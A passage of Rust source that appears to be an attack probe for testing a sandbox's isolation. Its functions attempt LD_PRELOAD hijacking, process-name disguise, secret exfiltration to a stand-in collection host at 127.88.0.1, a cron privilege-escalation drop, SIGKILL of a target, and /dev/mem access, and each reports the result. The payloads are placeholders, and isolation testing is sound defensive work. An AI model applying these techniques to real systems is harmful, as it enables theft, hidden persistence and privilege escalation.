        "addr": format!("{addr:#x}"),
    })
}

fn attack_ld_preload(root: &str) -> Value {
    let preload = fs::write(format!("{root}/etc/ld.so.preload"), b"/tmp/evil.so\n").is_ok();
    let library = fs::write(format!("{root}/tmp/evil.so"), b"\x7fELF-not-really").is_ok();
    json!({"preload_written": preload, "library_planted": library})
}

fn attack_covert_exec() -> Value {
    match unsafe { libc::fork() } {
        0 => {
            let fake = std::ffi::CString::new("kworker/u9:9").unwrap();
            unsafe {
                libc::prctl(libc::PR_SET_NAME, fake.as_ptr(), 0, 0, 0);
                libc::usleep(2_500_000);
                libc::_exit(0);
            }
        }
        -1 => json!({"spawned": false}),
        pid => {
            std::thread::sleep(Duration::from_millis(2200));
            let mut status = 0;
            unsafe { libc::waitpid(pid, &mut status, 0) };
            json!({"spawned": true, "covert_pid": pid})
        }
    }
}

/// Steal a guest secret, then ship it to the external collection point.
fn attack_reverse_shell(root: &str) -> Value {
    let secret = fs::read_to_string(format!("{root}/etc/secret.txt"))
        .or_else(|_| fs::read_to_string("/etc/secret.txt"))
        .unwrap_or_else(|_| "no-secret".into());
    match TcpStream::connect_timeout(&"127.88.0.1:7070".parse().unwrap(), Duration::from_millis(1500)) {
        Ok(mut stream) => {
            let sent = stream.write_all(secret.as_bytes()).is_ok();
            stream.set_read_timeout(Some(Duration::from_millis(500))).ok();
            let mut ack = [0u8; 8];
            let acked = stream.read(&mut ack).unwrap_or(0) > 0;
            json!({"connected": true, "sent": sent, "acked": acked})
        }
        Err(e) => json!({"connected": false, "error": e.kind().to_string()}),
    }
}

fn attack_loopback() -> Value {
    match TcpStream::connect_timeout(&"127.0.0.1:8081".parse().unwrap(), Duration::from_millis(1500)) {
        Ok(mut stream) => {
            let sent = stream.write_all(b"EXPLOIT-TRIGGER").is_ok();
            json!({"connected": true, "sent": sent})
        }
        Err(e) => json!({"connected": false, "error": e.kind().to_string()}),
    }
}

/// Drop an executable `update` file into the guest's /tmp — the classic
/// consumed-by-privileged-cron escalation drop.
fn attack_disk_privesc(root: &str) -> Value {
    let path = format!("{root}/tmp/update");
    let written = fs::write(&path, b"#!/bin/sh\nid > /tmp/pwned\n").is_ok();
    if written {
        use std::os::unix::fs::PermissionsExt;
        let _ = fs::set_permissions(&path, fs::Permissions::from_mode(0o755));
    }
    json!({"planted": written, "path": path})
}

fn attack_signal_kill(target_pid: i32) -> Value {
    if target_pid <= 0 {
        return json!({"error": "no target pid"});
    }
    let rc = unsafe { libc::kill(target_pid, libc::SIGKILL) };
    json!({
        "killed": rc == 0,
        "errno": if rc == 0 { 0 } else { last_errno() },
    })
}

/// Three routes to the global memory device interface: open /dev/mem
/// directly, open the guest's node, or create a fresh 1:1 char device.
/// Node creation counts as access — on kernels built without the devmem
/// driver the open itself fails for everyone (ENXIO), but the ability to
/// mint device interfaces is exactly what the sandbox must withhold.
fn attack_devmem(root: &str) -> Value {
    let direct = fs::File::open("/dev/mem");
    let via_guest = fs::File::open(format!("{root}/dev/mem"));
    let scratch = if fs::metadata("/tmp").is_ok() { "/tmp" } else { root };
    let node_path = format!("{scratch}/mem0");
    let c = std::ffi::CString::new(node_path.clone()).unwrap();
    let mknod_rc = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 1)) };
    let mknod_errno = if mknod_rc == 0 { 0 } else { last_errno() };
    let minted_open = if mknod_rc == 0 {
        let r = fs::File::open(&node_path);
        let out = json!({"ok": r.is_ok(), "errno": errno_of(&r)});
        let _ = fs::remove_file(&node_path);
        out
    } else {
        json!({"ok": false, "errno": mknod_errno})
    };
    json!({
        "direct_open": direct.is_ok(),
        "direct_errno": errno_of(&direct),
        "guest_node_open": via_guest.is_ok(),
        "guest_node_errno": errno_of(&via_guest),
        "mknod_ok": mknod_rc == 0,
        "mknod_errno": mknod_errno,
        "minted_open": minted_open,
    })
}
